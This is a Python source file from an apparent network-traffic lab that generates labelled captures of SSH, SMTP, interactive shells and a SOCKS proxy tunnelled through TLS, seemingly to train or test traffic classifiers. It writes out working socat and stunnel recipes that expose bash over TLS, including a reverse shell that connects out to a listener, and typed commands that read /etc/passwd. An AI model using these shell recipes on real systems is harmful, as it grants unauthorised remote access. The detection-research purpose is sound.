"""Inside TLS: SSH, SMTP, a shell, a SOCKS proxy."""

from __future__ import annotations

from tools.lab import dialogue, names, words
from tools.lab.bot import Bot
from tools.lab.errors import ProgramError, UncertainError
from tools.lab.hand import by_hand, tool
from tools.lab.human import Typist
from tools.lab.scenario import Context, scenario
from tools.lab.scenarios import mail
from tools.lab.service import bracketed, nameless, shell
from tools.lab.service.mail import letter, smtp
from tools.lab.service.terminator import LOCAL_PORT, Terminator, pipe, socat_listen, terminator, wrapper
from tools.lab.service.web import certificate, http, stunnel, terms
from tools.lab.terminal import Terminal

HELD_OUT = "socat"
"""The terminator kept from learning."""
PROOF = b"uid=0"
"""What `id` says to whoever has a shell here."""
PROMPT = r"[$#] (\x1b\[[?\dhl]*)*$"


@scenario("tls.ssh", runs=70)
def ssh_inside(context: Context) -> None:
    """SSH through TLS: refused, a command, a file, a shell; by hand and by program."""
    rng = context.rng
    name, secret = names.person(rng), names.password(rng)
    shell.sshd(context.server, rng, {name: secret})
    outer = _terminator(context, ("127.0.0.1", 22))
    work = rng.choice(("failed", "failed", "exec", "exec", "upload", "shell", "shell"))
    method = rng.choice(("password", "publickey"))
    typed = work == "shell" or (method == "password" and rng.random() < 0.5)
    tries = rng.randint(1, 3) if work == "failed" and method == "password" else int(work == "failed")
    command = _ssh(context, outer, name, work, method, tries)
    facets = {"class": "tls", "tunnel": "ssh-in-tls"}
    if typed:
        _type_ssh(
            context, command, [names.password(rng) + "!" for _ in range(tries)] or [secret], method, work
        )
    else:
        prefix = (
            ["sshpass", "-p", names.password(rng) + "!" if work == "failed" else secret]
            if method == "password"
            else []
        )
        context.client.run(*prefix, *command, check=False)
    log = context.server.log_text("sshd")
    rejected, accepted = log.count(f"Failed {method}"), log.count("Accepted ")
    if (work == "failed") == bool(accepted) or (work == "failed" and not rejected):
        raise UncertainError(f"{work}: {rejected} rejected, {accepted} accepted; {log[-300:]!r}")
    facets["actor"] = "human" if typed else "bot"
    facets["outcome"] = "auth-success" if accepted else "auth-failed"
    activity = work if accepted else None
    context.label({**facets, "attempts": rejected or None, "activity": activity}, port=443, method=method)


def _ssh(context: Context, outer: Terminator, name: str, work: str, method: str, tries: int) -> list[str]:
    rng, client = context.rng, context.client
    if rng.random() < 0.3:
        where = ["-p", str(wrapper(client, context.server.address, 443))]
    else:
        where = ["-o", "ProxyCommand=" + " ".join(pipe(rng, context.server.address, 443))]
    options = [*where, *shell.TRUSTING, "-o", "IdentitiesOnly=yes"]
    options += ["-o", f"NumberOfPasswordPrompts={max(1, tries)}"]
    if method == "password":
        options += ["-o", "PubkeyAuthentication=no"]
    else:
        key = client.folder / "key"
        if work == "failed":
            client.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key))
        else:
            key.write_text(shell.client_key(context.server).read_text())
            key.chmod(0o600)
        options += ["-o", "PasswordAuthentication=no", "-i", str(key)]
    cipher = rng.choice(("", "", "chacha20-poly1305@openssh.com", "aes128-gcm@openssh.com", "aes256-ctr"))
    options += ["-c", cipher] if cipher else []
    target = f"{name}@127.0.0.1"
    if work == "upload":
        file = client.folder / names.file_name(rng)
        file.write_bytes(rng.randbytes(names.size(rng, 100, 300_000)))
        options = ["-P" if option == "-p" else option for option in options]
        return ["scp", "-q", *options, str(file), f"{target}:copy"]
    return ["ssh", *options, target, *(["uname"] if work != "shell" else [])]


def _type_ssh(context: Context, command: list[str], secrets: list[str], method: str, work: str) -> None:
    typist = Typist(context.rng)
    with context.terminal(*command) as terminal:
        if method == "password":
            for secret in secrets:
                terminal.expect("assword: ")
                typist.answer(terminal, secret)
        if work == "shell":
            _type_commands(context, terminal, typist, echoes=True)
        else:
            terminal.wait(40)


def _type_commands(context: Context, terminal: Terminal, typist: Typist | Bot, *, echoes: bool) -> None:
    """Some commands and `exit`, each when there is a prompt (or silence, where nothing echoes)."""
    rng = context.rng
    lines = [words.command(rng, ["notes.txt", "/etc/passwd"]) for _ in range(rng.randint(2, 7))]
    lines.insert(rng.randint(0, len(lines)), "id")  # its answer proves that there was a shell
    for line in lines:
        printed = terminal.expect(PROMPT) if echoes else ""
        typist.read(terminal, printed)
        typist.line(terminal, line)
        if not echoes:
            terminal.pause(0.4)
    if echoes:
        terminal.expect(PROMPT)
    typist.line(terminal, "exit")
    terminal.pause(1.0)


def _work_shell(context: Context, terminal: Terminal, typist: Typist | Bot, *, echoes: bool) -> None:
    """Commands at a shell that is being reached, and the proof that one was; it may end before the last."""
    terminal.pause(0.5 + 5 * context.link.rtt_ms / 1e3)
    try:
        _type_commands(context, terminal, typist, echoes=echoes)
    except ProgramError:
        if not terminal.ended():
            raise
    if PROOF not in terminal.output:
        raise UncertainError("no shell answered")


@scenario("tls.smtp.hand", runs=45, limit_s=400.0)
def smtp_by_hand_inside(context: Context) -> None:
    """A mail typed into openssl s_client, ncat or socat."""
    service = smtp(context.server, context.rng)
    port = context.rng.choice((443, 465))
    _terminator(context, (context.server.address, service.port), port)
    play = dialogue.smtp(context.rng)
    command = tool(context.rng, context.server.address, port, tls=True)
    context.software("client", command[0], "")
    screen = by_hand(context, command, play.steps, Typist(context.rng), quits=play.quits)
    if "220 " not in screen:
        raise UncertainError("no greeting")
    activity = "delivery" if mail.TAKEN.search(screen) else None
    context.label(
        {"class": "tls", "tunnel": "smtp-in-tls", "actor": "human", "activity": activity}, port=port
    )


@scenario("tls.smtp.program", runs=45)
def smtp_by_program_inside(context: Context) -> None:
    """swaks, curl or smtplib deliver over implicit TLS, or a script plays a dialogue."""
    rng = context.rng
    service = smtp(context.server, rng)
    port = rng.choice((443, 465))
    _terminator(context, (context.server.address, service.port), port)
    sender, recipient = names.mail(rng), names.mail(rng, "example.org")
    client = rng.choice(
        ("swaks", "curl", "smtplib", "script") if context.link.family == 4 else ("curl", "smtplib", "script")
    )
    context.software("client", client, "")
    if client == "swaks":
        delivered = mail.swaks(context, port, sender, recipient, tls=True)
    elif client == "curl":
        text = context.client.folder / "letter"
        text.write_bytes(letter(rng))
        done = context.client.run(
            "curl",
            "-sSk",
            f"smtps://{bracketed(context.server.address)}:{port}/{names.host(rng)}",
            "--mail-from",
            sender,
            "--mail-rcpt",
            recipient,
            "-T",
            str(text),
            check=False,
        )
        delivered = done.returncode == 0
    elif client == "smtplib":
        delivered = mail.smtplib(context, port, sender, recipient, tls=True)
    else:
        said = mail.script(context, port, dialogue.smtp(rng, mistakes=False).steps, tls=True, crlf=True)
        if "220 " not in said["answer"]:
            raise UncertainError("no greeting")
        delivered = bool(mail.TAKEN.search(said["answer"]))
    if client != "script" and not delivered:
        raise UncertainError(f"{client} did not deliver")
    activity = "delivery" if delivered else None
    context.label({"class": "tls", "tunnel": "smtp-in-tls", "actor": "bot", "activity": activity}, port=port)


@scenario("tls.shell", runs=45)
def shell_inside(context: Context) -> None:
    """A shell behind TLS, on a terminal (each key echoed) or by lines; typed, or worked by a program."""
    rng = context.rng
    nameless(context.server)
    keyed = rng.random() < 0.6
    outer = Terminator(rng.choice(("stunnel", "socat")), 443, terms(rng), certificate(context.server, rng))
    context.software("server", outer.kind, "", held_out=outer.kind == HELD_OUT)
    if outer.kind == "stunnel":
        run = f"exec = /bin/bash\nexecArgs = bash -i\npty = {'yes' if keyed else 'no'}"
        stunnel(context.server, 443, "", outer.shown, outer.offer, run)
    else:
        pty = ",pty,setsid,ctty" if keyed else ""
        context.server.spawn(
            "socat", socat_listen(context.server, outer), f"EXEC:bash -i{pty},stderr", log="socat"
        )
        context.server.wait_for_port(443)
    target = f"{bracketed(context.server.address)}:443"
    command = (
        ["socat", "-,raw,echo=0", f"OPENSSL:{target},verify=0"]
        if keyed
        else pipe(rng, context.server.address, 443)
    )
    typist: Typist | Bot = Typist(rng) if rng.random() < 0.7 else Bot(rng)
    actor = "human" if isinstance(typist, Typist) else "bot"
    context.software("client", command[0], "")
    with context.terminal(*command) as terminal:
        _work_shell(context, terminal, typist, echoes=keyed)
    context.label(
        {"class": "tls", "tunnel": "shell-in-tls", "actor": actor, "activity": "shell"}, port=443, keyed=keyed
    )


@scenario("tls.shell.reverse", runs=20)
def reverse_shell(context: Context) -> None:
    """The client connects out and hands its shell to whoever listens, who types."""
    rng = context.rng
    nameless(context.client)
    keyed = rng.random() < 0.5
    outer = Terminator("socat", 443, terms(rng), certificate(context.server, rng))
    listen = socat_listen(context.server, outer).replace(",fork", "")
    command = context.server.words("socat", "-,raw,echo=0" if keyed else "-", listen)
    context.software("client", "socat", "")
    typist = Typist(rng)
    with Terminal(command, context.server.log("terminal")) as terminal:
        context.server.wait_for_port(443)
        pty = ",pty,setsid,ctty" if keyed else ""
        context.client.spawn(
            "socat", f"OPENSSL:{bracketed(context.server.address)}:443,verify=0", f"EXEC:bash -i{pty},stderr"
        )
        _work_shell(context, terminal, typist, echoes=keyed)
    context.label({"class": "tls", "tunnel": "shell-in-tls", "activity": "reverse"}, port=443, keyed=keyed)


@scenario("tls.socks", runs=30)
def socks_inside(context: Context) -> None:
    """Pages fetched through a SOCKS proxy behind TLS."""
    rng = context.rng
    service = http(context.server, rng)
    shell.socks(context.server)
    _terminator(context, ("127.0.0.1", 1080))
    local = wrapper(context.client, context.server.address, 443, LOCAL_PORT)
    proxy = f"{rng.choice(('socks5', 'socks5h'))}://127.0.0.1:{local}"
    for _ in range(rng.randint(1, 4)):
        path = rng.choice(("", "short.txt", "numbers.txt"))
        url = f"http://{bracketed(context.server.address)}:{service.port}/{path}"
        done = context.client.run("curl", "-sS", "-x", proxy, "-o", "/dev/null", url, check=False)
        if done.returncode != 0:
            raise UncertainError(f"curl ended with {done.returncode}: {done.stderr[-200:]}")
    context.software("client", "curl in stunnel", "")
    context.label({"class": "tls", "tunnel": "socks-in-tls", "actor": "bot"}, port=443, every=True)


def _terminator(context: Context, behind: tuple[str, int], port: int = 443) -> Terminator:
    made = terminator(context.server, context.rng, behind, port)
    context.software("server", made.kind, "", held_out=made.kind == HELD_OUT)
    context.facts["tls"] = {
        "versions": made.offer.versions,
        "ciphers12": made.offer.ciphers12,
        "key": made.shown.kind,
    }
    return made
